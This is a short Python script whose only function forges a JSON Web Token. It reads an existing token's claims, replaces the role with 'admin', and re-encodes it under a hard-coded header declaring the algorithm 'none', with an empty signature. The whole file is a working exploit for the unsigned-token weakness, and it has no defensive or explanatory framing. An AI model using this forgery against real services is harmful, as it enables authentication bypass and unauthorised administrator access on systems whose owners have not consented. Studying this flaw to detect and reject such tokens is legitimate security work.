"""The header is a constant, typed in; the claims are written with role first."""

import base64
import json

HEADER = "eyJ0eXAiOiJKV1QiLCJhbGciOiJub25lIn0"


def forge_none(token):
    body = token[token.index(".") + 1 : token.rindex(".")].translate(str.maketrans("-_", "+/"))
    claims = json.loads(base64.b64decode(body.ljust(-(-len(body) // 4) * 4, "=")))
    claims.pop("role", None)
    text = json.dumps({"role": "admin", **claims}, indent=1)
    return f"{HEADER}.{base64.urlsafe_b64encode(text.encode()).decode().strip('=')}."
